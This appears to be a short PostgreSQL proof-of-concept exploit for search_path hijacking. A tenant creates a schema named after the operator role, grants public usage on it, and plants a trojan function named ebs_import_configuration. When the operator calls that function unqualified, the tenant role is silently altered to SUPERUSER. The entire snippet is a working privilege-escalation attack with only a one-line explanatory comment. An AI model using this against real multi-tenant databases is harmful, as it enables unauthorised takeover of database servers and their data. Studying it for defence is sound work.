-- As tenant, who may create schemas: one with the operator's name stands first in the operator's search_path, by "$user".
CREATE SCHEMA postgres;
GRANT USAGE ON SCHEMA postgres TO PUBLIC;
CREATE FUNCTION postgres.ebs_import_configuration(text, OUT changed bigint) RETURNS SETOF bigint LANGUAGE plpgsql AS
$$ BEGIN RAISE LOG 'sprung: %', 'ebs_import_configuration(text)'; ALTER ROLE tenant SUPERUSER; RETURN; END $$;
